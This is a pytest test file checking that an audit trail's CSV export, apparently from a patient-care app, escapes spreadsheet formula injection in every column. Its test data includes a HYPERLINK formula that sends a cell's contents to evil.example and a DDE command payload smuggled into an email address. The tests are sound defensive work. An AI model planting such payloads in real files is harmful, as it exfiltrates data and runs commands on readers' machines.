"""The audit trail's CSV export cannot carry a formula in any column (ASVS 5.0 1.2.10 and 16.4.1):
people choose their emails and names, and an address can come from a forwarded header."""

import csv
import io

import pytest

from app.extensions import db
from app.models import AuditEvent, Role
from app.services.audit.trail import FORMULA_STARTS, safe_cell
from tests.factories import make_user

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "\0=1")


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_starting_like_a_formula_is_shown_as_text(formula):
    assert safe_cell(formula) == "'" + formula
    assert safe_cell("Maria " + formula) == "Maria " + formula  # only the start matters
    assert safe_cell("") == ""


def test_every_column_of_the_audit_export_is_formula_safe(client, auth):
    admin = make_user(Role.ADMIN, name="Alex Morgan")
    actor = make_user(Role.THERAPIST, name="@SUM(1+1)", email="=cmd|'/c calc'!a0@example.com")
    patient = make_user(Role.PATIENT, name="+Maria", email="-2+3@example.com")
    db.session.add(
        AuditEvent(
            action="view_patient_record",
            actor_id=actor.id,
            patient_id=patient.id,
            ip_address='=HYPERLINK("http://evil.example")',
            detail="@For +Maria",
        )
    )
    db.session.commit()
    auth.login(admin.email)
    export = client.get("/admin/audit.csv?action=view_patient_record").get_data(as_text=True)
    [header, row] = list(csv.reader(io.StringIO(export)))
    assert header[2:6] == ["person acting", "patient", "address", "detail"]
    assert row[2:] == [
        "'=cmd|'/c calc'!a0@example.com",
        "'-2+3@example.com",
        '\'=HYPERLINK("http://evil.example")',
        "'@For +Maria",
    ]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in row)
